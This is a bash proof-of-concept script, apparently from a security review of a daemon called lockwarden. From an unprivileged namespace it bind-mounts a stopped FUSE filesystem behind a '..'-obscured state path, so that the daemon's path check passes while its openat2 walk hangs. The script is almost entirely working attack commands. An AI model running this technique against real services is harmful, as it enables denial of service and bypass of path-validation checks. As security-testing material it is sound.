#!/bin/bash
# Attack: nobody's gateway runs in a user+mount namespace of its own where a FUSE mount is bound
# over its (host-side ordinary) folder own/b; it names own/a/../b/state. The host check passes
# (an ordinary folder of nobody's), and same_in_ns matches /proc/PID/mountinfo against the
# path as written (".." hides own/b), then openat2(RESOLVE_IN_ROOT) walks into the stopped FUSE.
LW=${LW:-/work/main/build/check/src/lockwarden}
T=$(mktemp -d /tmp/atk.XXXX); chmod 755 $T
mkdir -p $T/app $T/own/a $T/own/b/state/agents/main/sessions $T/src/state/agents/main/sessions $T/mnt
echo '// entry' > $T/app/openclaw.mjs
chown -R nobody:nogroup $T/own $T/src/state
echo '{}' > $T/lw.json
bindfs -o attr_timeout=0,entry_timeout=0,allow_other $T/src $T/mnt || exit 1
srv=$(pgrep -n -f "^bindfs .*$T/src $T/mnt\$")
SD=$T/own/a/../b/state
setpriv --reuid=nobody --regid=nogroup --clear-groups env -i PATH=/usr/bin:/bin OPENCLAW_STATE_DIR=$SD \
   unshare -Urm bash -c "mount --bind $T/mnt $T/own/b || exit 9; exec -a $T/app/openclaw.mjs bash -c 'sleep 30; :' gateway" &
gw=$!
sleep 1
ps -o pid,user,cmd --ppid $gw | tail -1
kill -STOP $srv
env -u OPENCLAW_STATE_DIR timeout 10 $LW run --config $T/lw.json --socket $T/sock --events - --leak-grace-ms 200 > $T/events 2>$T/err &
d=$!
sleep 5
echo "--- stderr:"; cut -c1-300 $T/err | head -5
for p in $(pgrep -f "^$LW"); do ps -o pid,stat,wchan:30 -p $p; cat /proc/$p/stack 2>/dev/null | head -6; done
kill -CONT $srv; wait $d; echo "daemon rc=$? (124: killed by timeout at 10 s)"
kill $gw 2>/dev/null; pkill -P $gw 2>/dev/null; sleep 0.2; fusermount -u $T/mnt; rm -rf $T
